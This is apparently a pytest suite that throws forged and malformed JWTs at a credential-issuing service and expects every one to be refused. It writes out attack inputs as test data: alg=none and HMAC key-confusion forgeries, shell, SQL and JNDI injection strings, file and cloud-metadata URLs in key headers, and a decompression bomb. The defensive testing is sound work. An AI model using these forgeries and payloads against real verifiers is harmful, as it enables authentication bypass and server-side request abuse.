# SPDX-License-Identifier: Apache-2.0
"""Tokens that must not be taken. Most are signed with the provider's own key: nothing but their flaw can stop them."""

from __future__ import annotations

import base64
import datetime as dt
import json
import time
import zlib

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding

import identity_flows as flows
from ansible_collections.dodas.cluster.plugins.module_utils.x509 import join
from forgery import ABSENT, b64, pem
from identity_runtime import AUDIENCE, OPAQUE_AUDIENCE
from service_runtime import DEPLOYMENT

ORDER_OF_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def cases(**named):
    """Parameters of a test from its cases by name."""
    return [pytest.param(case, id=name) for name, case in named.items()]


def parts(token):
    return token.split(".")


def replaced(token, **changes):
    """A token with other parts: head, body, signature."""
    head, body, signature = parts(token)
    new = {"head": head, "body": body, "signature": signature, **changes}
    return f"{new['head']}.{new['body']}.{new['signature']}"


def attack(order, refused, token):
    response = order(token)
    assert refused(response, *[part for part in str(token).split(".") if len(part) > 20])
    assert response.status_code in (400, 401, 403, 431)
    if response.status_code == 401:
        assert response.headers["WWW-Authenticate"].startswith("Bearer")
    return response


def test_honest_tokens_pass(order, forger, honest_token):
    for token in (honest_token, forger.token(), forger.token("ES256"), forger.with_header(typ="JWT")):
        assert order(token).status_code == 201
    assert order(forger.token(sub="alice", client_id="dodas", wlcg__groups=["/cms"]), kind="eec").status_code == 201


# --- the algorithm


@pytest.mark.parametrize(
    "alg", ["none", "None", "NONE", "nOnE", "", ABSENT, None, ["none"], 0, {"alg": "none"}], ids=repr
)
@pytest.mark.parametrize("signature", ["", "AA", "right"])
def test_no_algorithm(order, refused, forger, alg, signature):
    token = forger.sign(forger.header(alg), forger.claims())
    attack(order, refused, token if signature == "right" else replaced(token, signature=signature))


def hmac_keys(forger):
    rs, es, jwk = forger.keys["RS256"], forger.keys["ES256"], forger.public()
    return {
        "pem": pem(rs),
        "pem-without-newline": pem(rs).rstrip(),
        "pem-crlf": pem(rs).replace(b"\n", b"\r\n"),
        "pkcs1-pem": pem(rs, "PKCS1"),
        "der": pem(rs, encoding="DER"),
        "pkcs1-der": pem(rs, "PKCS1", "DER"),
        "jwk": json.dumps(jwk).encode(),
        "jwk-compact": json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode(),
        "published-jwk": json.dumps(forger.jwks["RS256"]).encode(),
        "n": base64.urlsafe_b64decode(jwk["n"] + "=="),
        "n-text": jwk["n"].encode(),
        "kid": forger.jwks["RS256"]["kid"].encode(),
        "nothing": b"",
        "nul": b"\0",
        "ec-pem": pem(es),
        "ec-point": pem(es, "UncompressedPoint", "X962"),
    }


@pytest.mark.parametrize("alg", ["HS256", "HS512"])
@pytest.mark.parametrize(
    "form",
    [
        "pem",
        "pem-without-newline",
        "pem-crlf",
        "pkcs1-pem",
        "der",
        "pkcs1-der",
        "jwk",
        "jwk-compact",
        "published-jwk",
        "n",
        "n-text",
        "kid",
        "nothing",
        "nul",
        "ec-pem",
        "ec-point",
    ],
)
def test_hmac_with_a_public_key(order, refused, forger, alg, form):
    attack(order, refused, forger.sign(forger.header(alg=alg), forger.claims(), alg, hmac_keys(forger)[form]))


@pytest.mark.parametrize("alg", ["RS384", "RS512", "PS256", "PS384", "PS512"])
def test_other_algorithms_with_the_right_key(order, refused, forger, alg):
    attack(order, refused, forger.sign(forger.header(alg=alg), forger.claims(), alg))


@pytest.mark.parametrize(
    "alg", ["rs256", "RS256 ", " RS256", "RS256\0", "RS256\n", "\uff32\uff33256", "ES256K", "EdDSA", "RS1", "A128KW"]
)
def test_algorithms_that_look_right(order, refused, forger, alg):
    attack(order, refused, forger.sign(forger.header(alg), forger.claims()))


@pytest.mark.parametrize(
    ("said", "done"), [("ES256", "RS256"), ("RS256", "ES256"), ("PS256", "RS256"), ("ES384", "ES256")]
)
def test_swapped_algorithms(order, refused, forger, said, done):
    kids = [forger.jwks["RS256"]["kid"], forger.jwks["ES256"]["kid"], ABSENT]
    for kid in kids:
        attack(order, refused, forger.sign(forger.header(alg=said, kid=kid), forger.claims(), done))


# --- the key


KIDS = cases(
    path=lambda kid, canary: "../../../../../../dev/null",
    absolute_path=lambda kid, canary: "/etc/passwd",
    file_url=lambda kid, canary: "file:///dev/null",
    url=lambda kid, canary: f"http://{canary}/jwks",
    sql=lambda kid, canary: f"x' UNION SELECT '{kid}",
    shell=lambda kid, canary: f"|/usr/bin/touch /tmp/{kid}",
    template=lambda kid, canary: f"${{jndi:ldap://{canary}/a}}",
    nul=lambda kid, canary: kid + "\0",
    newline=lambda kid, canary: kid + "\r\nX-Evil: 1",
    prefix=lambda kid, canary: kid[:-1],
    empty=lambda kid, canary: "",
    long=lambda kid, canary: "k" * 9000,
    number=lambda kid, canary: 0,
    array=lambda kid, canary: [kid],
    object=lambda kid, canary: {"kid": kid},
    true=lambda kid, canary: True,
    look_alike=lambda kid, canary: kid + "\u200b",
)


@pytest.mark.parametrize("kid", KIDS)
def test_key_names(order, refused, forger, canary, kid):
    name = kid(forger.jwks["RS256"]["kid"], canary.address)
    attack(order, refused, forger.with_header(kid=name))
    attack(order, refused, forger.sign(forger.header(alg="HS256", kid=name), forger.claims(), "HS256", b""))
    assert canary.visits == 0


def own_certificate(forger):
    name, now = x509.Name([]), dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).serial_number(1)
        .not_valid_before(now).not_valid_after(now + dt.timedelta(days=1))
        .public_key(forger.own["RS256"].public_key()).sign(forger.own["RS256"], hashes.SHA256())
    )  # fmt: skip


def jwk_of(key):
    numbers = key.public_key().public_numbers()
    return {"kty": "RSA", "n": b64(numbers.n.to_bytes(256, "big")), "e": "AQAB", "alg": "RS256", "use": "sig"}


HEADERS = cases(
    jwk=lambda f, c: {"jwk": jwk_of(f.own["RS256"])},
    jwk_named=lambda f, c: {"jwk": {**jwk_of(f.own["RS256"]), "kid": f.jwks["RS256"]["kid"]}},
    jwk_own_name=lambda f, c: {"kid": "mine", "jwk": {**jwk_of(f.own["RS256"]), "kid": "mine"}},
    jwk_without_kid=lambda f, c: {"kid": ABSENT, "jwk": jwk_of(f.own["RS256"])},
    jwk_private=lambda f, c: {"jwk": {**jwk_of(f.own["RS256"]), "d": "AQAB"}},
    jku=lambda f, c: {"jku": f"http://{c}/jwks"},
    jku_https=lambda f, c: {"jku": f"https://{c}/jwks"},
    jku_userinfo=lambda f, c: {"jku": f"{f.issuer}@{c}/jwks"},
    jku_fragment=lambda f, c: {"jku": f"http://{c}/jwks#{f.issuer}"},
    jku_backslash=lambda f, c: {"jku": f"http://{c}\\@{f.issuer[8:]}/jwks"},
    jku_file=lambda f, c: {"jku": "file:///etc/passwd"},
    jku_metadata=lambda f, c: {"jku": "http://169.254.169.254/latest/meta-data/"},
    x5u=lambda f, c: {"x5u": f"http://{c}/cert.pem"},
    x5c=lambda f, c: {"x5c": [base64.b64encode(own_certificate(f).public_bytes(Encoding.DER)).decode()]},
    x5c_pem=lambda f, c: {"x5c": [own_certificate(f).public_bytes(Encoding.PEM).decode()]},
    x5t=lambda f, c: {"x5t": "AAAA", "x5c": []},
)


@pytest.mark.parametrize("signer", ["own", "right"])
@pytest.mark.parametrize("headers", HEADERS)
def test_keys_that_the_sender_brings(order, refused, forger, canary, headers, signer):
    key = forger.own["RS256"] if signer == "own" else None
    attack(order, refused, forger.with_header(key=key, **headers(forger, canary.address)))
    assert canary.visits == 0


def test_a_symmetric_key_in_the_header(order, refused, forger):
    header = forger.header(alg="HS256", jwk={"kty": "oct", "k": b64(b"k" * 32)})
    attack(order, refused, forger.sign(header, forger.claims(), "HS256", b"k" * 32))


def test_a_stranger_key_with_the_right_name(order, refused, forger):
    for alg in ("RS256", "ES256"):
        attack(order, refused, forger.with_header(alg, key=forger.own[alg]))


# --- other headers


@pytest.mark.parametrize(
    "headers",
    cases(
        crit_exp={"crit": ["exp"], "exp": 1},
        crit_unknown={"crit": ["urn:evil"], "urn:evil": True},
        crit_empty={"crit": []},
        crit_null={"crit": None},
        crit_b64={"crit": ["b64"], "b64": False},
        b64_false={"b64": False},
        b64_true={"b64": True},
        zip_def={"zip": "DEF"},
        zip_none={"zip": None},
        typ_id={"typ": "id_token"},
        typ_logout={"typ": "logout+jwt"},
        typ_dpop={"typ": "dpop+jwt"},
        typ_entity={"typ": "entity-statement+jwt"},
        typ_join={"typ": join.TYPE},
        typ_number={"typ": 1},
        typ_list={"typ": ["at+jwt"]},
    ),
)
def test_headers_that_change_the_meaning(order, refused, forger, headers):
    attack(order, refused, forger.with_header(**headers))


def test_an_unencoded_payload(order, refused, forger):
    header = b64(json.dumps(forger.header(b64=False, crit=["b64"])).encode())
    body = b64(json.dumps(forger.claims()).encode())
    signature = b64(forger.signature(f"{header}.".encode() + json.dumps(forger.claims()).encode(), "RS256"))
    attack(order, refused, f"{header}.{body}.{signature}")


@pytest.mark.parametrize("size", [0, 50_000_000], ids=["small", "bomb"])
def test_a_compressed_payload(order, refused, forger, size):
    body = json.dumps(forger.claims(padding="a" * 1000)).encode() + b" " * size
    compress = zlib.compressobj(9, wbits=-15)
    packed = compress.compress(body) + compress.flush()
    attack(order, refused, forger.sign(forger.header(zip="DEF"), packed))


# --- the signature


def ec_signature(r, s):
    return lambda token, f: b64(r.to_bytes(32, "big") + s.to_bytes(32, "big"))


SIGNATURES = cases(
    zero=ec_signature(0, 0),
    zero_r=ec_signature(0, 1),
    zero_s=ec_signature(1, 0),
    order=ec_signature(ORDER_OF_P256, ORDER_OF_P256),
    order_r=ec_signature(ORDER_OF_P256, 1),
    ones=ec_signature(1, 1),
    der_zero=lambda token, f: b64(bytes.fromhex("3006020100020100")),
    der=lambda token, f: b64(f.keys["ES256"].sign(token.rpartition(".")[0].encode(), ec.ECDSA(hashes.SHA256()))),
    empty=lambda token, f: "",
    one_byte=lambda token, f: "AA",
    truncated=lambda token, f: parts(token)[2][:-4],
    halved=lambda token, f: parts(token)[2][:43],
    longer=lambda token, f: parts(token)[2] + "AAAA",
    doubled=lambda token, f: parts(token)[2] * 2,
    padded=lambda token, f: parts(token)[2] + "==",
    first_bit=lambda token, f: ("B" if parts(token)[2][0] == "A" else "A") + parts(token)[2][1:],
    of_another=lambda token, f: parts(f.token("ES256", sub="alice"))[2],
    of_the_header=lambda token, f: b64(f.signature(parts(token)[0].encode(), "ES256")),
    of_the_body=lambda token, f: b64(f.signature(parts(token)[1].encode(), "ES256")),
    rsa_zero=lambda token, f: b64(bytes(256)),
    rsa_one=lambda token, f: b64(bytes(255) + b"\1"),
    huge=lambda token, f: "A" * 8000,
)


@pytest.mark.parametrize("signature", SIGNATURES)
@pytest.mark.parametrize("alg", ["ES256", "RS256"])
def test_signatures(order, refused, forger, alg, signature):
    token = forger.token(alg)
    attack(order, refused, replaced(token, signature=signature(token, forger)))


@pytest.mark.parametrize("part", ["head", "body"])
def test_parts_of_another_token(order, refused, forger, part):
    token, other = forger.token(), forger.token("ES256", sub="alice", wlcg__groups=["/cms"])
    attack(order, refused, replaced(token, **{part: parts(other)[0 if part == "head" else 1]}))


# --- who it is from, who it is for


ISSUERS = cases(
    absent=lambda iss, c: ABSENT,
    null=lambda iss, c: None,
    empty=lambda iss, c: "",
    number=lambda iss, c: 1,
    array=lambda iss, c: [iss],
    object=lambda iss, c: {"iss": iss},
    other=lambda iss, c: "https://evil.example",
    prefix=lambda iss, c: iss[:-1],
    suffix=lambda iss, c: iss + ".evil.example",
    slash=lambda iss, c: iss + "/",
    path=lambda iss, c: iss + "/../evil",
    case=lambda iss, c: iss.replace("https", "HTTPS"),
    http=lambda iss, c: iss.replace("https", "http"),
    userinfo=lambda iss, c: f"{iss}@{c}",
    userinfo_front=lambda iss, c: iss.replace("//", f"//{c}@"),
    canary=lambda iss, c: f"http://{c}",
    canary_https=lambda iss, c: f"https://{c}",
    canary_fragment=lambda iss, c: f"https://{c}#{iss}",
    canary_query=lambda iss, c: f"https://{c}?{iss}",
    localhost=lambda iss, c: iss.replace("127.0.0.1", "localhost"),
    short_address=lambda iss, c: iss.replace("127.0.0.1", "127.1"),
    dot=lambda iss, c: iss.replace("127.0.0.1", "127.0.0.1."),
    space=lambda iss, c: iss + " ",
    newline=lambda iss, c: "\n" + iss,
    nul=lambda iss, c: iss + "\0",
    percent=lambda iss, c: iss.replace("127", "%31%32%37"),
    wide=lambda iss, c: iss.replace("1", "\uff11"),
    metadata=lambda iss, c: "http://169.254.169.254",
    file=lambda iss, c: "file:///etc/passwd",
    unix=lambda iss, c: "unix:///run/docker.sock",
    of_the_hosts=lambda iss, c: join.issuer(DEPLOYMENT),
)


@pytest.mark.parametrize("issuer", ISSUERS)
def test_issuers(order, refused, forger, canary, issuer):
    attack(order, refused, forger.token(iss=issuer(forger.issuer, canary.address)))
    assert canary.visits == 0


@pytest.mark.parametrize(
    "audience",
    cases(
        absent=ABSENT,
        null=None,
        empty="",
        empty_list=[],
        other="https://evil.example",
        list_of_others=["https://evil.example", "https://wlcg.cern.ch/jwt/v1/any"],
        substring=AUDIENCE[:-1],
        superstring=AUDIENCE + ".evil.example",
        slash=AUDIENCE + "/",
        case=AUDIENCE.upper(),
        spaces=f"{AUDIENCE} https://other.example",
        comma=f"{AUDIENCE},https://other.example",
        object={AUDIENCE: True},
        nested=[[AUDIENCE]],
        characters=list(AUDIENCE),
        objects=[{"aud": AUDIENCE}],
        number=1,
        true=True,
        star="*",
        nul=AUDIENCE + "\0",
    ),
)
def test_audiences(order, refused, forger, audience):
    attack(order, refused, forger.token(aud=audience))


# --- when


TIMES = cases(
    null=None,
    text="9999999999",
    words="never",
    date="2999-01-01T00:00:00Z",
    negative=-1,
    huge=10**30,
    larger=10**400,
    year_19391=2**39,
    float_huge=1e300,
    true=True,
    array=[9999999999],
    object={"exp": 9999999999},
    empty="",
)


@pytest.mark.parametrize("value", TIMES)
@pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
def test_times_that_are_none(order, refused, forger, claim, value):
    attack(order, refused, forger.token(**{claim: value}))


@pytest.mark.parametrize(
    "value", ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "0x7fffffff", "1_000", "9" * 5000, "01"]
)
@pytest.mark.parametrize("claim", ["exp", "iat", "nbf"])
def test_numbers_that_json_does_not_know(order, refused, forger, claim, value):
    body = json.dumps(forger.claims(**{claim: "HERE"})).replace('"HERE"', value).encode()
    attack(order, refused, forger.sign(forger.header(), body))


@pytest.mark.parametrize(
    "times",
    cases(
        expired={"exp": -60, "iat": -600, "nbf": -600},
        long_expired={"exp": -10**9, "iat": -10**9 - 60, "nbf": -10**9 - 60},
        at_the_epoch={"exp": None, "iat": -60},
        not_before={"nbf": 120},
        issued_in_the_future={"iat": 120},
        all_in_the_future={"iat": 3600, "nbf": 3600, "exp": 7200},
        without_exp={"exp": ABSENT},
        without_iat={"iat": ABSENT},
    ),
)  # fmt: skip
def test_times(order, refused, forger, times):
    now = int(time.time())
    values = {name: value if value is ABSENT else 0 if value is None else now + value for name, value in times.items()}
    attack(order, refused, forger.token(**values))


# --- who, and what for


@pytest.mark.parametrize(
    "value", cases(absent=ABSENT, null=None, empty="", number=7, true=True, array=["worker"], object={"sub": "worker"})
)
@pytest.mark.parametrize("claim", ["sub", "scope"])
def test_claims_of_the_wrong_kind(order, refused, forger, claim, value):
    attack(order, refused, forger.token(**{claim: value}))


@pytest.mark.parametrize(
    "scope",
    [
        "x509x",
        "X509",
        "x50",
        "x509.read",
        "x509:/",
        "x509,wlcg.groups",
        "x 509",
        " ",
        "*",
        "wlcg\u2003x509",
        "wlcg\tx509",
        "wlcg\x1cx509",
        "wlcg\u00a0x509",
        "\uff58509",
        '"x509"',
        "x509\0",
        "wlcg\nx509",
    ],
    ids=ascii,
)
def test_scopes(order, refused, forger, scope):
    attack(order, refused, forger.token(scope=scope))


@pytest.mark.parametrize(
    "groups",
    [
        "/cms",
        ["/CMS"],
        ["cms"],
        ["/cms/"],
        ["/cms/uscms"],
        [" /cms"],
        ["/cms "],
        ["/cms\0"],
        ["/cms\n"],
        ["/%63ms"],
        ["/cms/.."],
        ["/atlas/../cms"],
        ["//cms"],
        ["*"],
        ["/c*"],
        ["/\uff43ms"],
        ["/c\u200bms"],
        ["/\u0441ms"],
        [["/cms"]],
        {"/cms": True},
        ["/cms", 1],
        [None],
        "/cms,/atlas",
        ["/cms/Role=NULL"],
        ["/cms=/cms"],
        None,
        True,
        ["/cms,/atlas"],
    ],
    ids=ascii,
)
def test_groups(order, refused, forger, groups):
    attack(order, refused, forger.token(sub="mallory", client_id="dodas", wlcg__groups=groups))


@pytest.mark.parametrize(
    "client",
    ["Worker", "worker ", "worker\0", "w\u043erker", ["worker"], {"worker": 1}, True, None, "worker/worker"],
    ids=ascii,
)
def test_clients(order, refused, forger, client):
    attack(order, refused, forger.token(sub="mallory", client_id=client))


# --- the text


def twice(name, value, where="body"):
    """A token in which a key stands twice; the second is what lax readers take."""

    def build(forger):
        header, claims = json.dumps(forger.header()), json.dumps(forger.claims())
        more = f', "{name}": {json.dumps(value)}}}'
        if where == "head":
            header = header[:-1] + more
        else:
            claims = claims[:-1] + more
        return forger.sign(header.encode(), claims.encode())

    return build


@pytest.mark.parametrize(
    "build",
    cases(
        sub=twice("sub", "alice"),
        sub_same=twice("sub", "worker"),
        sub_escaped=twice("s\\u0075b", "alice"),
        aud=twice("aud", AUDIENCE),
        exp=twice("exp", 2**39),
        iss=twice("iss", "https://evil.example"),
        groups=twice("scope", "x509 admin"),
        alg=twice("alg", "none", "head"),
        alg_escaped=twice("a\\u006cg", "none", "head"),
        kid=twice("kid", "x", "head"),
        nested=lambda f: f.sign(f.header(), json.dumps(f.claims()).encode()[:-1] + b', "x": {"a": 1, "a": 2}}'),
    ),
)
def test_duplicate_keys(order, refused, forger, build):
    attack(order, refused, build(forger))


def body(change):
    return lambda f: f.sign(f.header(), change(json.dumps(f.claims()).encode()))


@pytest.mark.parametrize(
    "build",
    cases(
        bom=body(lambda data: b"\xef\xbb\xbf" + data),
        utf16=body(lambda data: data.decode().encode("utf-16")),
        utf16le=body(lambda data: data.decode().encode("utf-16-le")),
        utf32=body(lambda data: data.decode().encode("utf-32")),
        latin1=body(lambda data: data.replace(b'"worker"', b'"w\xf6rker"')),
        overlong=body(lambda data: data.replace(b'"worker"', b'"\xc0\xafworker"')),
        trailing=body(lambda data: data + b"{}"),
        nul=body(lambda data: data + b"\0"),
        comment=body(lambda data: data[:-1] + b"/* */}"),
        quotes=body(lambda data: data.replace(b'"', b"'")),
        comma=body(lambda data: data[:-1] + b",}"),
        array=body(lambda data: b"[" + data + b"]"),
        string=body(lambda data: json.dumps(data.decode()).encode()),
        number=body(lambda data: b"1"),
        null=body(lambda data: b"null"),
        nothing=body(lambda data: b" "),
        deep=body(lambda data: data[:-1] + b', "x": ' + b"[" * 5000 + b"]" * 5000 + b"}"),
        deep_open=body(lambda data: b'{"a":' * 2000),
        garbage=body(lambda data: bytes(range(256))),
        lone_surrogate=body(lambda data: data.replace(b'"worker"', b'"\\ud800worker"')),
        head_array=lambda f: f.sign(b"[]", f.claims()),
        head_string=lambda f: f.sign(b'"RS256"', f.claims()),
        head_garbage=lambda f: f.sign(b"\xff\xfe", f.claims()),
        nested=lambda f: f.sign(f.header(cty="JWT"), f.token().encode()),
    ),
)
def test_json(order, refused, forger, build):
    attack(order, refused, build(forger))


@pytest.mark.parametrize(
    "change",
    cases(
        two_parts=lambda t: t.rpartition(".")[0],
        one_part=lambda t: parts(t)[1],
        four_parts=lambda t: t + ".AAAA",
        five_parts=lambda t: t + ".AAAA.AAAA",
        leading_dot=lambda t: "." + t,
        trailing_dot=lambda t: t + ".",
        double_dot=lambda t: t.replace(".", "..", 1),
        empty=lambda t: "",
        dots=lambda t: "..",
        inner_space=lambda t: t[:50] + " " + t[50:],
        inner_tab=lambda t: t[:50] + "\t" + t[50:],
        two_tokens=lambda t: f"{t} {t}",
        comma=lambda t: f"{t},{t}",
        quoted=lambda t: f'"{t}"',
        padding=lambda t: t.replace(".", "=."),
        standard_alphabet=lambda t: replaced(t, signature=parts(t)[2].replace("-", "+").replace("_", "/") + "+"),
        percent=lambda t: t.replace(".", "%2e"),
        wide_dot=lambda t: t.replace(".", "\uff0e"),
        zero_width=lambda t: t + "\u200b",
        bom=lambda t: "\ufeff" + t,
        latin=lambda t: t.encode() + b"\xa0",
        high=lambda t: b"\x80" + t.encode(),
        bearer_twice=lambda t: f"Bearer {t}",
        parameter=lambda t: f"token={t}",
        case=lambda t: t.swapcase(),
        reversed=lambda t: t[::-1],
        jwe=lambda t: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", "AAAA", "AAAA"]),
        json_form=lambda t: json.dumps({"payload": parts(t)[1], "protected": parts(t)[0], "signature": parts(t)[2]}),
        slash=lambda t: t + "/../" + t,
    ),
)
def test_compact_form(order, refused, forger, change):
    attack(order, refused, change(forger.token()))


def test_the_same_signature_written_otherwise(order, refused, forger):
    """The last character of a signature holds bits that mean nothing: one token has one form, or replay has many."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    for alg in ("RS256", "ES256"):
        token = forger.token(alg)
        other = alphabet[alphabet.index(token[-1]) ^ 1]
        attack(order, refused, token[:-1] + other)


@pytest.mark.parametrize("size", [16 * 1024, 40_000, 1_000_000])
@pytest.mark.parametrize("where", ["head", "body", "signature"])
def test_huge_tokens(service, refused, forger, http, request_pem, where, size):
    token = {
        "head": lambda: forger.with_header(x="a" * size),
        "body": lambda: forger.token(x="a" * size),
        "signature": lambda: replaced(forger.token(), signature="A" * size),
    }[where]()
    started = time.monotonic()
    headers = {"Authorization": f"Bearer {token}"}
    with service.client() as client:
        try:
            response = client.post("/v1/credentials", json={"csr": request_pem.decode()}, headers=headers)
        except httpx.TransportError:
            response = None  # it hung up on us
    if response is not None:
        assert refused(response)
    assert time.monotonic() - started < 5


# --- tokens of other kinds


@pytest.fixture(scope="session")
def others(identity):
    """What the provider hands out that is no access token for us."""
    with identity.client() as client:
        tokens = flows.device_tokens(client)
        device = flows.start_device(client)
        opaque = flows.worker(client, resource=OPAQUE_AUDIENCE).json()["access_token"]
        other = flows.worker(client, resource="https://wlcg.cern.ch/jwt/v1/any").json()["access_token"]
        small = flows.worker(client, scope="wlcg.groups").json()["access_token"]
    return {"id": tokens["id_token"], "refresh": tokens["refresh_token"], "device": device["device_code"],
            "user": device["user_code"], "opaque": opaque, "other-audience": other, "other-scope": small}  # fmt: skip


@pytest.mark.parametrize("kind", ["id", "refresh", "device", "user", "opaque", "other-audience", "other-scope"])
def test_other_things_of_the_provider(order, refused, others, kind):
    attack(order, refused, others[kind])


@pytest.mark.parametrize("where", ["query", "body", "cookie", "other-header", "basic", "negotiate", "dpop", "mac"])
def test_a_token_where_none_is_expected(order, refused, honest_token, request_pem, where):
    form = {"access_token": honest_token, "csr": request_pem.decode()}
    pair = base64.b64encode(f"worker:{honest_token}".encode()).decode()
    response = {
        "query": lambda: order(path=f"/v1/credentials?access_token={honest_token}"),
        "body": lambda: order(body=form),
        "cookie": lambda: order(headers={"Cookie": f"access_token={honest_token}"}),
        "other-header": lambda: order(headers={"X-Access-Token": honest_token, "X-Forwarded-User": "worker"}),
        "basic": lambda: order(headers={"Authorization": "Basic " + pair}),
        "negotiate": lambda: order(headers={"Authorization": f"Negotiate {honest_token}"}),
        "dpop": lambda: order(headers={"Authorization": f"DPoP {honest_token}"}),
        "mac": lambda: order(headers={"Authorization": honest_token}),
    }[where]()
    assert refused(response, honest_token) and response.status_code == 401


# --- names


HOSTILE = [
    "alice/CN=admin",
    "alice/O=evil",
    "/",
    "a,b",
    "a=b",
    "a+b",
    "a\\b",
    "a\\/b",
    "a;b",
    "a<b>",
    'a"b',
    "a#b",
    "#616263",
    "a b",
    " a",
    "a ",
    "a  b",
    "a\0b",
    "a\nb",
    "a\r\nX: y",
    "a\tb",
    "a" * 1000,
    "a" * 255,
    "a" * 254 + "b",
    "a" * 256,
    "\U0001f600",
    "\u0430lice",
    "al\u0131ce",
    "\uff41lice",
    "al\u200bice",
    "\u202eecila",
    "ali\u0301ce",
    "al\u00edce",
    "a\u0338lice",
    "alice\ufeff",
    "\u05d0\u05d1",
    "ALICE",
    "alice",
    "alice.",
    "..",
    ".",
    "*",
    "%00",
    "%2f",
    "${jndi:x}",
    "{hash}",
    "{sub}",
    "{client}",
    "{0}",
    "%s",
    "$(id)",
    "`id`",
    "'; DROP TABLE x;--",
    "<script>",
    "CN=alice",
    "alice/CN=proxy",
    "alice/CN=limited proxy",
    "alice/CN=1234567890",
    "alice@cern.ch",
    "https://x/y?z=1",
    "\x7f",
    "\x1b[31m",
    "\ud800",
    "-alice",
    "_alice",
    "alice:bob",
    "null",
    "None",
    "0",
    "root",
]


@pytest.fixture(scope="session")
def names_given():
    """{DN: sub} of all that were accepted."""
    return {}


@pytest.mark.parametrize("sub", HOSTILE, ids=lambda sub: ascii(sub)[:40])
def test_hostile_subjects_get_a_name_that_nobody_confuses(order, refused, forger, names_given, sub):
    response = order(forger.token(sub=sub, client_id="dodas", wlcg__groups=["/cms"]), kind="eec")
    if response.status_code != 201:
        assert refused(response)
        return
    certificate = x509.load_pem_x509_certificate(response.json()["certificate"].encode())
    attributes = [(a.oid.dotted_string, a.value) for a in certificate.subject]
    assert [value for _, value in attributes[:-1]] == ["dodas", DEPLOYMENT, "people"]
    oid, name = attributes[-1]
    assert oid == "2.5.4.3" and len(name) <= 64 and name.isascii() and name.isprintable()
    assert not set(name) & set('/=,+\\"<>;#') and name == " ".join(name.split())
    assert names_given.setdefault(name.lower(), sub) == sub
    assert response.json()["subject"] == f"/DC=dodas/O={DEPLOYMENT}/OU=people/CN={name}"


def test_subjects_of_two_clients_do_not_meet(order, forger):
    """A user named as the client gets another name, for another rule decides; hash and rule keep them apart."""
    subjects = []
    for claims in ({"sub": "worker"}, {"sub": "worker", "client_id": "dodas", "wlcg__groups": ["/cms"]}):
        answer = order(forger.token(**claims)).json()
        subjects.append(answer["subject"].rsplit("/CN=", 1)[0])
    assert len(set(subjects)) == 2


# --- claims of the token that try to widen what it gives


@pytest.mark.parametrize(
    "claim", ["dn", "rule", "kind", "lifetime", "policy", "groups", "roles", "admin", "csr", "cnf", "act"]
)
def test_claims_that_mean_nothing_here(order, forger, claim):
    """Accepted, since others may need them, but nothing changes by them."""
    plain = order(forger.token()).json()
    widened = order(forger.token(**{claim: "/DC=dodas/CN=admin"}))
    assert widened.status_code == 201
    assert widened.json()["subject"].rsplit("/CN=", 1)[0] == plain["subject"].rsplit("/CN=", 1)[0]
